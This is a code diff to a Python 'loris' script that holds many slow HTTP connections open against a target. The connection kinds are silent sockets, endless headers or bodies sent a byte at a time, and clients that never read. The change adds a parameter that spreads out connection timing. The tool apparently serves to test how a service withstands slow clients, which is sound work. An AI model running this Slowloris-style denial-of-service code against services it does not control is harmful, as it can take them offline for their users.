@@ -1,7 +1,7 @@
-"""Slow clients of four kinds, as an attacker would hold a service with them: `loris ADDRESS COUNT`.
+"""Slow clients of four kinds, as an attacker would hold a service with them: `loris ADDRESS COUNT SECONDS`.
 
-Keeps COUNT connections open until stdin closes; who is thrown out comes again after a second. Prints the
-number of connections made so far, once a second.
+Keeps COUNT connections open until stdin closes, the first of them made over SECONDS; who is thrown out comes
+again after a second. Prints the number of connections made so far, once a second.
 """
 
 from __future__ import annotations
@@ -27,7 +27,7 @@ async def silent(_: Streams) -> None:
 async def dripping_head(streams: Streams) -> None:
     """A header that never ends, a byte at a time."""
     streams[1].write(b"GET /data HTTP/1.1\r\nHost: t\r\nX: ")
-    while not streams[0].at_eof():
+    while not (streams[0].at_eof() or streams[1].is_closing()):
         streams[1].write(b"x")
         await asyncio.sleep(DRIP_SECONDS)
 
@@ -35,7 +35,7 @@ async def dripping_head(streams: Streams) -> None:
 async def dripping_body(streams: Streams) -> None:
     """A body that never ends, a byte at a time."""
     streams[1].write(b"POST /data HTTP/1.1\r\nHost: t\r\nContent-Length: 1000000\r\n\r\n")
-    while not streams[0].at_eof():
+    while not (streams[0].at_eof() or streams[1].is_closing()):
         streams[1].write(b"x")
         await asyncio.sleep(DRIP_SECONDS)
 
@@ -50,14 +50,14 @@ async def not_reading(streams: Streams) -> None:
 KINDS: tuple[Callable[[Streams], Awaitable[None]], ...] = (silent, dripping_head, dripping_body, not_reading)
 
 
-async def attack(host: str, port: int, count: int) -> None:
+async def attack(host: str, port: int, count: int, spread: float) -> None:
     """Hold `count` connections until stdin closes."""
     made = itertools.count(1)
     total = 0
 
     async def one(kind: Callable[[Streams], Awaitable[None]]) -> None:
         nonlocal total
-        await asyncio.sleep(random.random())
+        await asyncio.sleep(spread * random.random())
         while True:
             with contextlib.suppress(OSError):
                 sock = socket.socket()
@@ -89,4 +89,4 @@ async def attack(host: str, port: int, count: int) -> None:
 
 if __name__ == "__main__":
     place = urlsplit(sys.argv[1])
-    asyncio.run(attack(str(place.hostname), int(place.port or 80), int(sys.argv[2])))
+    asyncio.run(attack(str(place.hostname), int(place.port or 80), int(sys.argv[2]), float(sys.argv[3])))
